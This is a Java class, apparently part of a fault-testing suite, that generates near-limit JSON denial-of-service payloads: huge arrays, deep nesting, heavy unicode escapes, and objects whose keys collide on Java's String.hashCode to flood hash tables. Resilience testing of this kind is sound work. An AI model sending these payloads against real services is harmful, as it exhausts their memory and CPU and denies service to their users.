package io.junctura.fault.attack;

import java.util.List;
import java.util.Locale;

/** JSON that needs much memory or time to parse. Each text is slightly smaller than the limit of bodies. */
final class JsonBombs {
    private static final long BYTES = 9_000_000;

    /** Twelve shapes. */
    private static final List<Payload> SHAPES = List.of(
            list("{}"),
            list("[]"),
            list("{\"a\":1}"),
            list("{\"a\":{\"b\":{\"c\":{}}}}"),
            list("0"),
            list("\"a\""),
            list("0.12345678901234567890"),
            list("[".repeat(60) + "]".repeat(60)),
            Payload.counted("{", i -> String.format(Locale.ROOT, "\"k%07d\":0,", i), BYTES, "\"z\":0}"),
            Payload.counted("{", JsonBombs::colliding, BYTES, "\"z\":0}"),
            Payload.repeated("[", "9", BYTES, "]"),
            Payload.repeated("[\"", "\\ud83d\\ude00\\u0041", BYTES, "\"]"));

    private JsonBombs() {}

    private static Payload list(String item) {
        return Payload.repeated("[", item + ",", BYTES, item + "]");
    }

    /** Names with the same {@link String#hashCode}, since {@code Aa} and {@code BB} have the same. */
    private static String colliding(long i) {
        StringBuilder name = new StringBuilder("\"");
        for (int bit = 19; bit >= 0; bit--) name.append((i >> bit & 1) == 0 ? "Aa" : "BB");
        return name.append("\":0,").toString();
    }

    static Payload shape(int n) {
        return SHAPES.get(Math.floorMod(n, SHAPES.size()));
    }
}
